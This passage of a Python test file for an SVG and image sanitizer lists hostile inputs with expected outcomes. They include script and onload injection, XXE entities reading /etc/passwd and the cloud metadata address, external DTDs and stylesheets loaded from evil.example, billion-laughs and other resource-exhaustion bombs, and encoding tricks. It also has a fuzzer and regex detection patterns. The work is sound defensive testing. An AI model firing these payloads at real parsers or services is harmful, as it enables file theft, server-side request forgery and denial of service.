    "sheet with a rule inside": (style("g{fill:red;&amp; rect{fill:url(//evil.example)}}"), ACTIVE),
    "sheet that steals": (style("rect[id^='a']{fill:red}"), SOUND),
    "sheet in a comment": (style("<!-- @import '//evil.example'; -->"), SOUND),
    "sheet of another kind": ('<style type="text/xsl">@import "//evil.example";</style>', SOUND),
    "sheet for print": ('<style media="print">g{display:none}</style>', SOUND),
    "sheet with element inside": ("<style>g{fill:red}<script>alert(1)</script></style>", ACTIVE),
    "sheet with blocks open": (style("g{a:" + "(" * 200_000), BROKEN),
    "sheet with braces open": (style("{" * 200_000), BROKEN),
    "sheet with a long number": (style("g{width:" + "9" * 6_000 + "}"), BROKEN),
    "sheet of 3 MB": (style("g{fill:red}" * 300_000), BROKEN),
    "sheet of 500 kB": (style("/*" + "x" * 500_000 + "*/"), BROKEN),
    "sheet of 6,000 rules": (style("g{fill:red}" * 6_000), BROKEN),
    "sheets of 1 MB together": (style("/*" + "x" * 390_000 + "*/") * 3, BROKEN),
    "sheet with a chain": (style("g{--a:var(--b)var(--b);--b:red;fill:var(--a)}"), SOUND),
    "sheet with a comment open": (style("g{fill:red} /* "), SOUND),
    "sheet with a string open": (style("g{font-family:'x"), SOUND),
    "sheet that ends the element": (style("g{font-family:'&lt;/style&gt;&lt;script&gt;'}"), SOUND),
    "text without an element": ("alert(1) ]]&gt; &lt;b&gt;", SOUND),
    "php inside": ("<?php system('id') ?>", SOUND),
    "unknown entity": ("<text>&xxe;</text>", BROKEN),
    "long id": (f'<g id="{"a" * 1_000_000}"/>', SOUND),
    "a million classes": (f'<g class="{"a " * 1_000_000}"/>', SOUND),
    "attribute twice": ('<g id="a" id="b"/>', BROKEN),
    "prefix unbound": ("<q:g/>", BROKEN),
    "prefix for svg only": ('<x:g xmlns:x="urn:x" x:onload="alert(1)"/>', SOUND),
    "control character": ("<text>\x08</text>", BROKEN),
    "no character": ("<text>￿</text>", BROKEN),
    "tags crossed": ("<g><defs></g></defs>", BROKEN),
    "150k groups": ("<g>" * 150_000, BROKEN),
    "150k groups, closed": ("<g>" * 150_000 + "</g>" * 150_000, BROKEN),
    "150k foreign groups": ("<x:g xmlns:x='urn:x'>" + "<x:g>" * 150_000, BROKEN),
    "120k elements": ("<g/>" * 120_000, BROKEN),
    "a million elements": ("<g/>" * 1_000_000, BROKEN),
    "500k attributes": ("<g " + " ".join(f'a{number}=""' for number in range(400_000)) + "/>", SOUND),
    "one path of 4 MB": (f'<path d="M0 0{"l1 1" * 1_000_000}"/>', SOUND),
    "output that grows": (f"<text>{'&amp;' * 10}{'>' * 2_000_000}</text>", BROKEN),
    "use of itself": ('<g id="a"><use href="#a"/></g>', BROKEN),
    "use in a circle": ('<g id="a"><use href="#b"/></g><g id="b"><use xlink:href="#a"/></g>', BROKEN),
    "300 pictures": (f'<image href="{DATA_PNG}"/>' * 300, BROKEN),
}


def laughs(link: str, levels: int = 10, before: str = "") -> str:
    """Groups that each refer ten times to the next: `link` holds the next one's id."""
    groups = (f'<g id="n{level}">' + link.format(f"n{level + 1}") * 10 + "</g>" for level in range(levels))
    return before + "".join(groups) + f'<g id="n{levels}">{RECT}</g>'


def classes_laugh() -> str:
    rules = "".join(f".c{level}{{mask:url(#n{level + 1})}}" for level in range(10))
    masks = "".join(f'<mask id="n{level}">' + f'<g class="c{level}"/>' * 10 + "</mask>" for level in range(11))
    return style(rules) + masks + '<g class="c0"/>'


def crossed(rules: int, groups: int) -> str:
    every = "".join(f"g{{fill:url(#p{number})}}" for number in range(rules))
    paths = "".join(f'<path id="p{number}"/>' for number in range(rules))
    return style(every) + paths + "".join(f'<g id="n{number}"/>' for number in range(groups))


def subset(declarations: str, root: str = "svg", body: str = "<text>&a;</text>") -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{declarations}]>{ROOT}{body}</svg>'.encode()


def billion_laughs() -> bytes:
    entities = "".join(
        f'<!ENTITY {name} "{f"&{inner};" * 10}">' for name, inner in zip("abcdefgh", "bcdefghi", strict=True)
    )
    return subset(entities + '<!ENTITY i "ha">')


SCRIPTED = svg("<script>alert(1)</script>").decode()
EXTERNAL = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "{}">'
SVG_FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "onload of the root": (lambda: svg("").replace(b"<svg ", b'<svg onload="alert(1)" '), ACTIVE),
    "billion laughs": (billion_laughs, ACTIVE),
    "quadratic blow-up": (lambda: subset(f'<!ENTITY a "{"a" * 100_000}">', body="<text>&a;</text>" * 50_000), ACTIVE),
    "entity of a file": (lambda: subset('<!ENTITY a SYSTEM "file:///etc/passwd">'), ACTIVE),
    "entity of an address": (lambda: subset('<!ENTITY a SYSTEM "http://169.254.169.254/">'), ACTIVE),
    "parameter entity": (lambda: subset('<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;', body=""), ACTIVE),
    "attribute by default": (lambda: subset('<!ATTLIST rect onload CDATA "alert(1)">', body=RECT), ACTIVE),
    "address by default": (lambda: subset('<!ATTLIST use xlink:href CDATA "//evil.example">', body="<use/>"), ACTIVE),
    "Illustrator's entities": (lambda: subset('<!ENTITY ns_svg "http://www.w3.org/2000/svg">', body=""), ACTIVE),
    "DTD elsewhere": (lambda: svg("", '<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">'), ACTIVE),
    "DTD elsewhere, named well": (lambda: svg("", EXTERNAL.format("http://evil.example/x.dtd")), ACTIVE),
    "DTD of a file": (lambda: svg("", '<!DOCTYPE svg SYSTEM "file:///etc/passwd">'), ACTIVE),
    "type of a page": (lambda: svg("", "<!DOCTYPE html>"), OTHER),
    "entity of the real DTD": (
        lambda: svg("<text>&nbsp;</text>", EXTERNAL.format("http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd")),
        BROKEN,
    ),
    "sheet elsewhere by instruction": (lambda: svg("", '<?xml-stylesheet href="//evil.example/x.css"?>'), ACTIVE),
    "XSLT by instruction": (lambda: svg("", '<?xml-stylesheet type="text/xsl" href="#x"?>'), ACTIVE),
    "sheet by instruction, late": (lambda: svg("") + b'<?xml-stylesheet href="//evil.example/x.css"?>', ACTIVE),
    "UTF-16 script": (lambda: SCRIPTED.encode("utf-16"), ACTIVE),
    "UTF-16 script, big end first": (lambda: b"\xfe\xff" + SCRIPTED.encode("utf-16-be"), ACTIVE),
    "UTF-16 without a mark": (lambda: SCRIPTED.encode("utf-16-le"), OTHER),
    "UTF-8 script with a mark": (lambda: b"\xef\xbb\xbf" + SCRIPTED.encode(), ACTIVE),
    "UTF-32 script": (lambda: SCRIPTED.encode("utf-32"), OTHER),
    "UTF-7 script": (
        lambda: svg("<text>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</text>", '<?xml version="1.0" encoding="UTF-7"?>'),
        BROKEN,
    ),
    "EBCDIC script": (lambda: f'<?xml version="1.0" encoding="cp037"?>{SCRIPTED}'.encode("cp037"), OTHER),
    "Latin-1 script": (lambda: f'<?xml version="1.0" encoding="iso-8859-1"?>{SCRIPTED}'.encode("latin-1"), ACTIVE),
    "mark against declaration": (
        lambda: b"\xef\xbb\xbf" + f'<?xml version="1.0" encoding="UTF-7"?>{SCRIPTED}'.encode(),
        ACTIVE,
    ),
    "broken UTF-8": (lambda: svg("<text>\x80</text>").replace(b"\xc2\x80", b"\x80"), BROKEN),
    "overlong UTF-8": (lambda: svg("<text>X</text>").replace(b"X", b"\xc0\xbcscript\xc0\xbe"), BROKEN),
    "lone surrogate": (lambda: svg("<text>X</text>").replace(b"X", b"\xed\xa0\x80"), BROKEN),
    "zero byte": (lambda: svg("<text>X</text>").replace(b"X", b"\0"), OTHER),
    "XML 1.1": (lambda: svg("", '<?xml version="1.1"?>'), SOUND),
    "blank before the declaration": (lambda: svg("", ' <?xml version="1.0"?>'), BROKEN),
    "words before": (lambda: b"GIF89a" + svg(""), OTHER),
    "words behind": (lambda: svg("") + b"<script>alert(1)</script>", BROKEN),
    "two roots": (lambda: svg("") + svg(""), BROKEN),
    "cut off": (lambda: svg("")[:-9], BROKEN),
    "no namespace": (lambda: b"<svg><script>alert(1)</script></svg>", BROKEN),
    "another namespace": (lambda: b'<svg xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/>', BROKEN),
    "page around": (lambda: b"<html>" + svg("") + b"</html>", OTHER),
    "laughing use": (lambda: svg(laughs('<use xlink:href="#{}"/>')), BROKEN),
    "laughing use, spelt otherwise": (
        lambda: svg(laughs('<use xlink:href="#%6e{}"/>').replace("#%6en", "#%6E")),
        BROKEN,
    ),
    "laughing markers": (
        lambda: svg(f'<marker id="m">{"<g/>" * 9_000}</marker><path marker-mid="url(#m)" d="M0 0{"h1" * 90_000}"/>'),
        BROKEN,
    ),
    "laughing fill": (lambda: svg(laughs('<rect fill="url(#{})"/>')), BROKEN),
    "laughing style": (lambda: svg(laughs("<g style=\"mask:url('#{}')\"/>")), BROKEN),
    "laughing filter": (lambda: svg(laughs('<feImage href="#{}"/>')), BROKEN),
    "laughing classes": (lambda: svg(classes_laugh()), BROKEN),
    "5,000 rules for 40,000 groups": (lambda: svg(crossed(5_000, 40_000)), BROKEN),
    "use 40,000 deep": (
        lambda: svg("".join(f'<g id="n{level}"><use href="#n{level + 1}"/></g>' for level in range(40_000))),
        BROKEN,
    ),
    "picture of 2.5 Gpixel": (lambda: svg(embedded(png(header(50_000, 50_000), IDAT, IEND))), BROKEN),
    "three pictures of 9 Mpixel": (lambda: svg(embedded(blank_png(3000, 3000, 0)) * 3), BROKEN),
    "picture of 16 Mpixel": (lambda: svg(embedded(blank_png(4000, 4000, 0))), SOUND),
}


def embedded(data: bytes) -> str:
    return f'<image href="data:image/png;base64,{base64.b64encode(data).decode()}"/>'


# --- all of them


def named() -> list[Hostile]:
    """One file of each kind, made when asked for, always the same."""
    kinds = [Hostile(f"png: {name}", make, fate) for name, make, fate in PNG_KINDS]
    kinds += [Hostile(f"jpeg: {name}", make, fate) for name, make, fate in JPEG_KINDS]
    kinds += [Hostile(f"other: {name}", partial(bytes, data), OTHER) for name, data in OTHER_KINDS.items()]
    kinds += [Hostile(f"HEIC: {name}", partial(bytes, data), HEIC) for name, data in HEIC_KINDS.items()]
    kinds += [Hostile(f"svg: {name}", partial(svg, body), fate) for name, (body, fate) in SVG_BODIES.items()]
    return kinds + [Hostile(f"svg: {name}", make, fate) for name, (make, fate) in SVG_FILES.items()]


def mutations(count: int, seed: int = 20) -> Iterator[tuple[str, bytes]]:
    """Damaged files: bytes flipped, cut out, doubled, put in, and pieces of two files joined."""
    dice = random.Random(seed)
    sound = [PNG, animated(3), jpeg(), jpeg((40, 40), progressive=True), svg(style("g{fill:url(#a)}") + DATA_PNG)]
    parents = sound * 8 + [svg(body) for body, _ in SVG_BODIES.values() if len(body) < 3_000]
    for number in range(count):
        data = bytearray(dice.choice(parents))
        for _ in range(dice.randint(1, 4)):
            start = dice.randrange(len(data) + 1)
            piece = dice.choice((dice.randbytes(4), dice.choice(parents)[:200], bytes(data[start : start + 30]), b""))
            data[start : start + dice.choice((0, 0, 1, 4, 40))] = piece
        yield f"mutation {number}", bytes(data)


# --- what is left of it

_ENTITIES = re.compile(r"&(?!(?:amp|lt|gt|quot|#9|#10|#13);)")
_ESCAPE = re.compile(r"\\([0-9a-fA-F]{1,6})\s?|\\(.)", re.DOTALL)
_LOADS = re.compile(r"script:|expression\(|@import|image-set\(|cross-fade\(|src\(", re.IGNORECASE)
_BINDS = re.compile(r"-moz-binding\s*:|behavior\s*:", re.IGNORECASE)
_OUTSIDE = re.compile(r"(?<![\w-])url\(\s*+[\"']?+\s*+(?!#)", re.IGNORECASE)
_FRAGMENT = re.compile(r"#\S*")
_PICTURE = re.compile(r"data:image/(?:png|jpeg);base64,[A-Za-z0-9+/]+=*")
_NAMESPACES = {"http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink"}
_BANNED = re.compile(
    "script|foreignobject|handler|listener|animate.*|set|discard|a|metadata|html|body|iframe|img|meta|link|base|form|"
    "input|object|embed|video|audio|font-face-uri|color-profile|.*:.*"
)


class _Tags(HTMLParser):
    """Reads the file as a browser would read it inside a page, which is the reading that is easiest to fool."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if _BANNED.fullmatch(tag):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"src", "action", "cursor", "xml:base"}:
                self.found.append(name)
            if name.endswith("href"):
                inside = _PICTURE if tag in {"image", "feimage"} and (value or "").startswith("data:") else _FRAGMENT
                self.found += [] if inside.fullmatch(value or "") else [f"{name}={value!r:.60}"]
            elif name.startswith("xmlns"):
                self.found += [] if value in _NAMESPACES else [f"{name}={value!r:.60}"]
            elif name not in {"id", "class", "lang", "role"} and not name.startswith("aria-"):
                self.found += _in_css(value or "", is_sheet=name == "style")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}]>")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")


def _in_css(text: str, is_sheet: bool = True) -> list[str]:
    plain = _ESCAPE.sub(lambda match: chr(int(match[1], 16) % 0x110000) if match[1] else match[2], text)
    patterns = (_LOADS, _OUTSIDE, _BINDS) if is_sheet else (_LOADS, _OUTSIDE)
    return [pattern.pattern for pattern in patterns if pattern.search(plain) or pattern.search(text)]


def dangers(cleaned: bytes) -> list[str]:
    """What in a cleaned SVG could still run, load or be read in two ways. Empty is what it should be."""
    text = cleaned.decode("utf-8")
    head, _, body = text.partition("?>")
    tags = _Tags()
    tags.feed(body)
    tags.close()
    sheets = re.findall(r"<style[^>]*>(.*?)</style", body, re.DOTALL)
    found = tags.found + [danger for sheet in sheets for danger in _in_css(html.unescape(sheet))]
    if any("<" in sheet for sheet in sheets):
        found.append("elements in a sheet")
    if head != '<?xml version="1.0" encoding="UTF-8"' or "<?" in body or "<!" in body:
        found.append("declarations")
    if _ENTITIES.search(body):
        found.append("entities")
    root = minidom.parseString(cleaned).documentElement if len(cleaned) < 100_000 else None
    if root is not None and (root.tagName, root.namespaceURI) != ("svg", "http://www.w3.org/2000/svg"):
        found.append("root")
    return found
